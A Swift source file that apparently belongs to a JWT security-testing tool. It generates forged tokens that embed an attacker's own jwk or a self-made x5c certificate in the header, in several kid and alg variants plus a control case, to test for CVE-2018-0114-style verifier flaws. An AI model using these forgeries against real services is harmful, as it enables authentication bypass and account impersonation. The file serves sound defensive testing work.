import Encodings
import JOSE

/// J05 and the `x5c` cases of J06: the attacker's key is in the header.
enum EmbeddedKeyAttacks {
    /// All are signed rightly, by a key that the attacker has made: a verifier that takes the key from the token itself
    /// accepts them. The `kid` is the target's own in some of them, for verifiers that look the key up by it first and
    /// prefer the embedded one then. `J05-unknown-key` is the control: nothing is embedded.
    static let all: [Attack] = [
        attack("J05-jwk-same-kid", "an attacker's jwk in the header, under the good kid") { material in
            try embedded(material, keyID: material.keyID) { $0 }
        },
        attack("J05-jwk-own-kid", "an attacker's jwk in the header, under its own kid") { material in
            try embedded(material, keyID: nil) { $0 }
        },
        attack("J05-jwk-without-alg", "an attacker's jwk without alg") { material in
            try embedded(material, keyID: material.keyID) { jwk in
                var jwk = jwk
                jwk["alg"] = nil
                return jwk
            }
        },
        attack("J05-jwk-oct", "a shared secret as jwk, under HS256") { material in
            let secret = Array("a secret the attacker chose himself, long enough".utf8)
            let jwk: JSONObject = ["kty": "oct", "k": .string(Base64URL.encode(secret))]
            return try material.forged(
                secret: secret, .hs256, keyID: material.keyID ?? "", extraHeader: ["jwk": .object(jwk)])
        },
        attack("J05-unknown-key", "an attacker's key under the good kid, nothing embedded") { material in
            try material.attackerKey(keyID: material.keyID).map { try material.forged(with: $0) }
        },
        attack("J06-x5c", "an attacker's certificate in x5c") { material in
            guard let key = try material.attackerKey(keyID: material.keyID) else { return nil }
            let certificate = Certificate.selfMade(for: try key.verificationKey.der())
            return try material.forged(
                with: key, extraHeader: ["x5c": .array([.string(StandardBase64.encode(certificate))])])
        },
    ]

    /// A token under the attacker's key with its public half in the header.
    ///
    /// - Parameters:
    ///   - keyID: the `kid` of the header; nil for the attacker's own.
    ///   - change: what is different about the embedded JWK.
    /// - Returns: nil where no key of the target's algorithm can be made.
    private static func embedded(
        _ material: AttackMaterial, keyID: String?, _ change: (JSONObject) -> JSONObject
    ) throws -> [UInt8]? {
        guard let key = try material.attackerKey(keyID: keyID), let jwk = key.verificationKey.jwk else { return nil }
        return try material.forged(with: key, extraHeader: ["jwk": .object(change(jwk))])
    }

    /// - Parameter token: nil where the case does not apply to the target's algorithm.
    private static func attack(
        _ id: String, _ title: String, _ token: @escaping @Sendable (AttackMaterial) throws -> [UInt8]?
    ) -> Attack {
        Attack(id: id, title: title, reference: "RFC 7515 §4.1.3, §4.1.6, CVE-2018-0114", category: .embeddedKey) {
            try token($0).map(Payload.token)
        }
    }
}

/// A certificate that can be parsed, but whose signature is not valid.
enum Certificate {
    /// The certificate as DER (RFC 5280 section 4.1) for a DER SubjectPublicKeyInfo, valid from 2020 to 2049.
    static func selfMade(for subjectPublicKeyInfo: [UInt8]) -> [UInt8] {
        // ecdsa-with-SHA256 and commonName.
        let algorithm = DER.sequence(DER.objectIdentifier([0x2A, 0x86, 0x48, 0xCE, 0x3D, 0x04, 0x03, 0x02]))
        let name = DER.sequence(
            DER.set(DER.sequence(DER.objectIdentifier([0x55, 0x04, 0x03]), DER.utf8String("attacker.invalid"))))
        let validity = DER.sequence(DER.utcTime("200101000000Z"), DER.utcTime("491231235959Z"))
        let body = DER.sequence(DER.integer([1]), algorithm, name, validity, name, subjectPublicKeyInfo)
        let signature = DER.sequence(DER.integer([1]), DER.integer([1]))
        return DER.sequence(body, algorithm, DER.bitString(signature))
    }
}
